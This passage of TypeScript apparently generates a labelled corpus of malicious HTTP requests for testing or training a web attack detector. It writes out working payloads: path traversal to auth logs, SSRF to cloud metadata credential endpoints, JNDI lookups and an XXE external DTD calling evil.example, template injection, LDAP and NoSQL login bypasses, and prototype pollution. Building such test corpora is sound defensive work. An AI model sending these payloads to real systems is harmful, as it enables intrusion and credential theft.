        path: '/api/v1/attachments',
        query: '',
        headers: clientHeaders(rng, { contentType: 'application/json' }),
        body: json({ name: 'x', path: '../../../../../var/log/auth.log' }),
      },
      'json path field',
    ),
    h(
      'ssrf',
      {
        method: 'POST',
        path: '/api/v1/webhooks',
        query: '',
        headers: clientHeaders(rng, { contentType: 'application/json' }),
        body: json({
          events: ['order.created'],
          target: { url: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' },
        }),
      },
      'webhook metadata',
    ),
    h(
      'ssrf',
      {
        method: 'POST',
        path: '/api/v1/import',
        query: '',
        headers: clientHeaders(rng, { contentType: 'application/json' }),
        body: json({ source: { type: 'url', href: 'http://[::ffff:169.254.169.254]/latest/meta-data/' } }),
      },
      'v4-mapped metadata',
    ),
    h(
      'ssrf',
      {
        method: 'GET',
        path: '/api/v1/preview',
        query: `url=${encStd('http://0x7f.1/admin')}`,
        headers: clientHeaders(rng),
      },
      'short hex loopback',
    ),
    h(
      'jndi',
      {
        method: 'GET',
        path: '/',
        query: '',
        headers: {
          ...clientHeaders(rng),
          'x-api-version': '${jndi:ldap://evil.example:1389/a}',
          'user-agent': '${jndi:ldap://evil.example:1389/a}',
        },
      },
      'scanner headers',
    ),
    h(
      'jndi',
      {
        method: 'POST',
        path: '/api/v1/login',
        query: '',
        headers: clientHeaders(rng, { contentType: 'application/json' }),
        body: '{"username":"\\u0024{jndi:ldap://evil.example/a}","password":"x"}',
      },
      'json unicode dollar',
    ),
    h(
      'jndi',
      {
        method: 'GET',
        path: '/api/v1/search',
        query: 'q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D',
        headers: clientHeaders(rng),
      },
      'encoded query',
    ),
    h(
      'ssti',
      {
        method: 'POST',
        path: '/api/v1/email-templates/preview',
        query: '',
        headers: clientHeaders(rng, { contentType: 'application/json' }),
        body: json({ subject: 'Hi', body: "Hello {{ ''.__class__.__mro__[1].__subclasses__() }}" }),
      },
      'template preview',
    ),
    h(
      'ssti',
      { method: 'GET', path: '/greet', query: 'name=%7B%7B7*7%7D%7D', headers: clientHeaders(rng, { browser: true }) },
      'encoded probe',
    ),
    h(
      'ldap',
      {
        method: 'POST',
        path: '/login',
        query: '',
        headers: clientHeaders(rng, { browser: true, contentType: 'application/x-www-form-urlencoded' }),
        body: 'username=*)(uid=*))(|(uid=*&password=anything',
      },
      'classic login bypass raw',
    ),
    h(
      'ldap',
      {
        method: 'GET',
        path: '/api/v1/directory',
        query: 'cn=John%29%28%7C%28objectClass%3D*%29%29',
        headers: clientHeaders(rng),
      },
      'encoded directory search',
    ),
    h(
      'nosqli',
      {
        method: 'POST',
        path: '/api/v1/auth/login',
        query: '',
        headers: clientHeaders(rng, { contentType: 'application/json' }),
        body: '{"username":"admin","password":{"$ne":""}}',
      },
      'classic login',
    ),
    h(
      'proto',
      {
        method: 'POST',
        path: '/api/v1/merge',
        query: '',
        headers: clientHeaders(rng, { contentType: 'application/json' }),
        body: '{"__proto__":{"isAdmin":true}}',
      },
      'raw literal __proto__',
    ),
    h(
      'xxe',
      {
        method: 'POST',
        path: '/api/v1/import',
        query: '',
        headers: clientHeaders(rng, { contentType: 'application/xml' }),
        body: '<?xml version="1.0"?>\n<!DOCTYPE r [\n<!ENTITY % a SYSTEM "http://evil.example/a.dtd">\n%a;\n]>\n<r/>',
      },
      'param entity multiline',
    ),
  ];
}

/** Every attack line, grouped by class, ids not yet assigned. */
export function generateAttacks(rng: Rng): Record<AttackClass, CorpusLine[]> {
  const res: Record<AttackClass, CorpusLine[]> = {
    sqli: generic(rng, 'sqli', SQLI, 3),
    xss: generic(rng, 'xss', XSS, 4),
    cmdi: generic(rng, 'cmdi', CMDI, 2),
    traversal: generic(rng, 'traversal', TRAVERSAL, 3),
    ssrf: generic(rng, 'ssrf', SSRF, 3),
    jndi: generic(rng, 'jndi', JNDI, 4),
    ssti: generic(rng, 'ssti', SSTI, 3),
    ldap: generic(rng, 'ldap', LDAP, 4),
    nosqli: [...nosqli(rng), ...generic(rng, 'nosqli', NOSQLI_JS, 3)],
    proto: proto(rng),
    xxe: xxe(rng),
  };
  for (const line of handWritten(rng)) res[line.label as AttackClass].push(line);
  return res;
}
